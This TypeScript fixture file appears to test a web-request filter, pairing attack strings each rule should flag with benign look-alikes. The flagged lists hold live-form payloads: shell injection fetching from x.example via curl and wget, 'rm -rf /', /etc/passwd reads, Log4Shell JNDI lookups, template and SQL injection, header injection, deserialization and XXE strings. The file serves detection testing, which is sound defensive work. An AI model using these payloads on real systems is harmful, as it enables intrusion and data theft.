import type { Examples } from './example.ts';

/** Commands, code, templates, look-ups, header lines, objects. */
export const programs: Examples = {
  7703010: {
    finds: [
      'a; cat /etc/hosts',
      '|nslookup x.example',
      '&& curl http://x.example/',
      '$(wget http://x.example/)',
    ],
    passes: ['wash; rinse; repeat', 'cats & dogs', 'the ls command; it lists', 'a | b', 'sleep; eat'],
  },
  7703011: {
    finds: ['x;id', '|whoami', '";ls;"', "'& ls -la'"],
    passes: ['name; id; date', '| id | name |', 'R&D', 'AT&T'],
  },
  7703012: {
    finds: ['a\n/bin/ls -al', 'x\ncat /etc/x'],
    passes: ['milk\neggs\ncat food', 'see\n/v1/orders'],
  },
  7703013: {
    finds: ['net user x y /add', 'rm -rf /', "perl -e 'x'", 'bash -c id', '-oProxyCommand=x'],
    passes: ['net income', 'rm the old one', 'cat food', 'type of thing', 'ping me'],
  },
  7703020: {
    finds: ['cat${IFS}x', '`whoami -a`', '$(id -u)', 'a |sh', '>& /dev/null', ';{cat,x}'],
    passes: ['use `ls` here', '$(document).ready', '{a,b}', 'costs $(5)', 'a | b shop'],
  },
  7703030: {
    finds: ['/bin/sh', 'cmd /c dir', '() { :;}; x', 'powershell -enc x'],
    passes: ['the bash shell', 'function f() { return 1 };', '/usr/bin/env', 'Powershell'],
  },
  7703040: {
    finds: ["';phpinfo();", "system('id')", '{${sleep(3)}}', "eval('x')"],
    passes: ['the system (new)', 'an exec (CEO)', 'print (2 pages)', 'evaluate(x)'],
  },
  7703050: {
    finds: ["__import__('os')", "require('child_process').exec", '<?php x', 'os.system("id")'],
    passes: ['import os', 'php and perl', 'a child process', 'the java.lang package'],
  },
  7703060: {
    finds: ["c'a't /etc/passwd", 'c\\at /proc/self/x'],
    passes: ['a cat / a dog', 'more/less etc.', '$0.99', '$0'],
  },
  7703070: { finds: ["/e'tc/pas'swd", '/etc//passwd'], passes: ['etc. and passwords', '/e/t/c'] },
  7704010: {
    finds: ['${jndi:ldap://x/a}', '${${lower:j}ndi:x}', '${env:HOME}', '${${::-j}x}'],
    passes: ['${name}', '${user.id}', 'jndi', '$5 {a}'],
  },
  7704020: {
    finds: ['{{7*7}}', "{{''.__class__}}", '<!--#exec cmd="x"-->', '${T(java.lang.Runtime)}'],
    passes: ['{{ name }}', 'Hi {{first_name}}, bye', '{% if a %}', '#{title}', '${price}'],
  },
  7704030: {
    finds: ['{{7+7}}', '<%= 7*7 %>', '@(1+2)', '{php}x{/php}', '{{ [].x }}'],
    passes: ['{{ order.total }}', '{7}', '@(me)', '${a}-${b}'],
  },
  7704040: {
    finds: ['(#_memberAccess)', 'x.getClass()', 'class.module.classLoader.x', '${sessionScope.a}'],
    passes: ['my class. for you', 'a session scope', 'get class (A)', 'the classloader'],
  },
  7706010: {
    finds: [
      'x\r\nSet-Cookie: a=b',
      'x\nContent-Type: text/html',
      'x%0d%0aLocation:%20/y',
      'a\r\nBcc: x@x.example',
    ],
    passes: ['hello\r\nyou', 'host:\r\n- tea', 'a\nlocation: Bern', 'Dear all,\r\nto: be or not'],
  },
  7706011: {
    finds: ['x\r\nSet-Cookie: a=b', 'x\r\n\r\n<script', 'x\n[2026-01-01] INFO in'],
    passes: ['a cookie\r\nfor you', '2026-01-01 info', 'first\r\n\r\nsecond'],
  },
  7706020: { finds: ['a\0b', 'a%00b'], passes: ['a0b', '100%', '%'] },
  7706030: { at: 'header X-Original-URL', finds: ['/admin'], passes: [] },
  7706040: {
    at: 'header Range',
    finds: ['bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13'],
    passes: ['bytes=0-499', 'bytes=0-1,5-9'],
  },
  7706060: {
    finds: [
      "1' or 1=1 --",
      '${jndi:ldap://198.51.100.7/a}',
      '$%7bjndi:ldap://198.51.100.7/a}',
      '1; drop table keys',
      '() { :; }; id',
      '../../etc/passwd',
      '<script>',
    ],
    passes: [
      '"8e03978e-40d5-43dd-bc93-6894a57f9324"',
      "1.1 front.example, HTTP/2 proxy.example (Anna's proxy)",
      'return=minimal; wait=10',
      'W/"a--b\'c"',
      'lib=a:b;c, other@place=00f067aa0ba902b7',
    ],
    at: 'header Idempotency-Key',
  },
  7706050: {
    at: 'header Content-Type',
    finds: ['%{(#a=1)}'],
    passes: ['application/json', 'text/plain; charset=utf-8'],
  },
  7710010: {
    finds: ['__proto__', '{"__proto__":{"a":1}}', 'a.constructor.prototype.b', 'x[__proto__][y]'],
    passes: ['the __proto__ property', 'a constructor', 'prototype', 'constructor, prototype'],
  },
  7710020: {
    finds: [
      'rO0ABXNyABE=',
      'O:8:"stdClass":0:{}',
      '!!python/object:x',
      'cos\nsystem\n',
      'YToxOntpOjA7aToxO30=',
    ],
    passes: ['O:8', 'an object: x', 'H4sI', 'Tzolkin', 'BAhamas', '{"type":"java"}'],
  },
  7710030: {
    finds: ['java.lang.Runtime', 'org.apache.xalan.x'],
    passes: ['java', 'org.apache', 'com.example.app'],
  },
  7711010: {
    finds: ['<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', '<!ENTITY % a "b">', '<xi:include href="a"/>'],
    passes: ['<!doctype html>', '<!-- entity -->', '<a>b</a>', '<?xml version="1.0"?><a/>'],
  },
};
